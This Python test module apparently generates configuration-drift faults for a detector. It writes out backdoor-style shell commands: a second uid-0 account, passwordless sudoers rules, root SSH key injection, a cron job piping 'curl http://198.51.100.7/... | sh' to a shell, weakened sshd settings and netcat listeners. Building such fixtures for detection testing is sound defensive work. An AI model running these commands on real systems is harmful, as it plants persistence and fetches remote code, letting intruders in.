"""Modifications of what a system is told to be: accounts, rights, keys, schedules, kernel, firewall, sshd, services."""

from __future__ import annotations

import base64
import hashlib
import random

from tests.faults.drift.deeds import PW, Mark, path_mark, quoted
from tests.faults.drift.targets import Targets

Drawn = tuple[str, tuple[Mark, ...], tuple[Mark, ...]]
ACCOUNT_FILES = tuple(
    Mark("files", f"/etc/{name}{end}") for name in ("passwd", "shadow", "group", "gshadow", "subuid", "subgid")
    for end in ("", "-")
)  # fmt: skip
KEY = "AAAAC3NzaC1lZDI1NTE5AAAAI"
LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"


def user(dice: random.Random, targets: Targets) -> Drawn:
    """An account with a shell, a second root, a service account that may log in, or another password."""
    name = targets.word("user")
    number = dice.randrange(2000, 60000)
    scripts = (
        f"useradd -M -u {number} -s /bin/bash {name}",
        f"printf '{name}:x:0:0::/root:/bin/sh\\n' >>/etc/passwd; printf '{name}:*:1::::::\\n' >>/etc/shadow",
        f"printf '{name}:x:{number}:{number}::/nonexistent:/bin/bash\\n' >>/etc/passwd",
        f"useradd -r -M -s /bin/sh {name} && printf '{name}:%s\\n' x{number} | chpasswd -c SHA512",
    )
    return dice.choice(scripts), (Mark("users", name),), (*ACCOUNT_FILES, Mark("groups", name))


def group(dice: random.Random, targets: Targets) -> Drawn:
    """A new group, with root's number or with members."""
    name = targets.word("group")
    scripts = (f"groupadd {name}", f"groupadd -o -g 0 {name}", f"groupadd {name} && usermod -aG {name} www-data")
    return dice.choice(scripts), (Mark("groups", name),), (*ACCOUNT_FILES, Mark("users", "www-data"))


def sudoers(dice: random.Random, targets: Targets) -> Drawn:
    """A rule that lets somebody be root, in a file of its own."""
    name = targets.word("rule")
    path = f"/etc/sudoers.d/{name}"
    rule = dice.choice(
        ("www-data ALL=(ALL) NOPASSWD: ALL", "%users ALL=(root) NOPASSWD: /bin/sh", "Defaults !authenticate")
    )
    return (
        f"mkdir -p /etc/sudoers.d; printf '%s\\n' {quoted(rule)} >{path}; chmod 0440 {path}",
        (Mark("sudoers", f"*{name}*", glob=True), *path_mark(path)),
        (),
    )


def authorised_key(dice: random.Random, targets: Targets) -> Drawn:
    """A key that opens root's account, another's, or root's of the product's chroot."""
    name = targets.word("key")
    blob = KEY + "".join(dice.choices(LETTERS, k=43))
    fingerprint = base64.b64encode(hashlib.sha256(base64.b64decode(blob)).digest()).decode().rstrip("=")
    key = f"ssh-ed25519 {blob} {name}@elsewhere"
    home = dice.choice(("/root", "/root", "/home/servers", f"{PW}/root", "/var/www"))
    file = dice.choice(("authorized_keys", "authorized_keys", "authorized_keys2"))
    path = f"{home}/.ssh/{file}"
    options = dice.choice(("", "", 'command="/bin/sh" ', 'from="10.0.0.0/8" '))
    # Of a home that no account has, and of a file that sshd may be told not to read, the file is what is found.
    known = Mark("authorised_keys", f"{path}: SHA256:{fingerprint}")
    return (
        f"mkdir -p {home}/.ssh; printf '%s\\n' {quoted(options + key)} >>{path}; chmod 600 {path}",
        path_mark(path) if home == "/home/servers" or file.endswith("2") else (known,),
        (*path_mark(path), Mark("files", f"{home}/.ssh"), Mark("files", home)),
    )


def cron(dice: random.Random, targets: Targets) -> Drawn:
    """A job in any of the places where cron looks."""
    name = targets.word("job")
    line = f"{dice.randrange(60)} {dice.randrange(24)} * * *"
    command = f"/usr/bin/curl -s http://198.51.100.7/{name} | sh"
    root = dice.choice(("", "", PW))
    path = f"{root}/etc/cron.d/{name}"
    daily = f"{root}/etc/cron.{dice.choice(('daily', 'hourly', 'weekly', 'monthly'))}/{name}"
    spool = "/var/spool/cron/crontabs/root"
    crontab = f"{root}/etc/crontab"
    choices = (
        (f"mkdir -p {root}/etc/cron.d; printf '{line} root {command}\\n' >{path}", path),
        (f"mkdir -p {daily.rsplit('/', 1)[0]}; printf '#!/bin/sh\\n{command}\\n' >{daily}; chmod 755 {daily}", daily),
        (f"{{ crontab -l 2>/dev/null || :; echo '{line} {command}'; }} | crontab -", spool),
        (f"printf '{line} root {command}\\n' >>{crontab}", crontab),
    )
    script, found = dice.choice(choices)
    return script, (Mark("cron", f"*{name}*", glob=True),), (*path_mark(found), *path_mark(found.rsplit("/", 1)[0]))


# Each belongs to the container's own namespaces: this machine's kernel is left alone. None resets another, as a changed
# ip_forward does with accept_redirects.
KERNEL = (
    "net.ipv4.ip_forward", "net.ipv4.conf.all.send_redirects",
    "net.ipv4.conf.all.rp_filter", "net.ipv4.tcp_syncookies", "net.ipv4.icmp_echo_ignore_all", "kernel.msgmax",
    "net.ipv4.conf.all.accept_source_route", "net.core.somaxconn", "net.ipv4.ip_default_ttl", "kernel.shmmni",
    "net.ipv4.tcp_timestamps", "net.ipv4.conf.all.log_martians", "net.ipv4.tcp_fin_timeout", "kernel.msgmnb",
)  # fmt: skip


class Settings:
    """Draws what there is a fixed number of: each once."""

    def __init__(self, dice: random.Random) -> None:
        self._kernel = list(KERNEL)
        self._sshd = list(SSHD)
        dice.shuffle(self._kernel)
        dice.shuffle(self._sshd)

    def kernel(self, dice: random.Random, targets: Targets) -> Drawn:
        """A value of the running kernel, or a file that sets one at the next start."""
        name = self._kernel.pop() if self._kernel else ""
        if not name or dice.random() < 0.4:
            path = f"/etc/sysctl.d/{dice.randrange(100):02d}-{targets.word('tuned')}.conf"
            key = dice.choice(KERNEL)
            return f"echo '{key} = {dice.randrange(2)}' >{path}", path_mark(path), ()
        file = "/proc/sys/" + name.replace(".", "/")
        other = f"read -r old <{file}; echo $((old ? 0 : 1)) >{file} || echo $((old + 3)) >{file}; read -r new <{file}"
        return f'{other}; [ "$old" != "$new" ]', (Mark("kernel", f"sysctl {name}"),), ()

    def sshd(self, dice: random.Random, targets: Targets) -> Drawn:
        """A setting of the outer sshd; it holds from its next start."""
        line = self._sshd.pop()
        path = "/etc/ssh/sshd_config"
        # The first word counts: what is appended may come too late, or after a Match.
        script = f"{{ echo '{line}'; cat {path}; }} >{path}.new && cat {path}.new >{path} && rm {path}.new"
        return script, (Mark("sshd", line.split()[0]),), path_mark(path)


SSHD = (
    "PermitEmptyPasswords yes", "GatewayPorts yes", "X11Forwarding yes", "MaxAuthTries 19", "ClientAliveInterval 77",
    "AllowTcpForwarding no", "Banner /etc/hostname", "LoginGraceTime 600", "PermitTunnel yes", "PrintLastLog no",
    "AuthorizedKeysFile .ssh/authorized_keys /etc/keys", "IgnoreRhosts no", "StrictModes no", "TCPKeepAlive no",
    "PermitUserEnvironment yes", "AcceptEnv *", "LogLevel QUIET", "MaxSessions 99", "AllowAgentForwarding no",
)  # fmt: skip


def firewall(dice: random.Random, targets: Targets) -> Drawn:
    """A rule of the running firewall."""
    port, chain = dice.randrange(20000, 60000), targets.word("CHAIN")
    scripts = (
        f"iptables -A INPUT -p tcp --dport {port} -j ACCEPT",
        f"iptables -A FORWARD -p tcp --dport {port} -j DROP",
        f"iptables -t nat -A PREROUTING -p udp --dport {port} -j REDIRECT --to-ports {port + 1}",
        f"iptables -t mangle -A POSTROUTING -p tcp --dport {port} -j ACCEPT",
        f"iptables -N {chain}",
    )
    marks = (Mark("firewall", "*", glob=True, within=str(port)), Mark("firewall", f"* {chain}", glob=True))
    return dice.choice(scripts), marks, ()


def service(dice: random.Random, targets: Targets) -> Drawn:
    """Something that starts by itself from now on."""
    name = targets.word("daemon")
    script = f"printf '#!/bin/sh\\n/usr/bin/{name} &\\n' >"
    unit = f"printf '[Service]\\nExecStart=/usr/bin/{name}\\n[Install]\\nWantedBy=multi-user.target\\n' >"
    init, level = f"/etc/init.d/{name}", f"/etc/rc{dice.choice('235')}.d/S20{name}"
    system = f"/etc/systemd/system/{name}.service"
    wants = "/etc/systemd/system/multi-user.target.wants"
    scripts = (
        (f"{script}{init}; chmod 755 {init}; ln -s ../init.d/{name} {level}", (init, level)),
        (
            f"{unit}{system}; mkdir -p {wants}; ln -s {system} {wants}/{name}.service",
            (system, f"{wants}/{name}.service"),
        ),
        (f"ln -s ../init.d/cron {level}", (level,)),
    )
    done, paths = dice.choice(scripts)
    marks = (Mark("services", f"*{name}*", glob=True), *(Mark("files", path) for path in paths))
    return done, marks, (Mark("files", wants),)


def port(dice: random.Random, targets: Targets) -> Drawn:
    """A program that listens for callers."""
    number = dice.randrange(20000, 60000)
    away = "</dev/null >/dev/null 2>&1 &"
    programs = (
        f"busybox httpd -f -p {number} -h /opt/httpd",
        f"busybox nc -l -p {number}",
        f"perl -MIO::Socket::INET -e 'my $door = IO::Socket::INET->new(Listen => 1, LocalPort => {number}); sleep'",
    )
    listens = f"grep -q ':{number:04X} 0*:0000 0A' /proc/net/tcp /proc/net/tcp6"
    waits = f"for try in 1 2 3 4 5 6 7 8 9; do {listens} && break; sleep 0.1; done"
    script = f"setsid {dice.choice(programs)} {away}\n{waits}; {listens}"
    return script, (Mark("ports", f"*:{number}", glob=True),), ()


KINDS = {
    "user": (user, 18),
    "group": (group, 10),
    "sudoers": (sudoers, 12),
    "authorised key": (authorised_key, 14),
    "cron": (cron, 22),
    "firewall": (firewall, 10),
    "service": (service, 12),
    "port": (port, 8),
}
FIXED = {"kernel setting": 12, "sshd setting": 8}
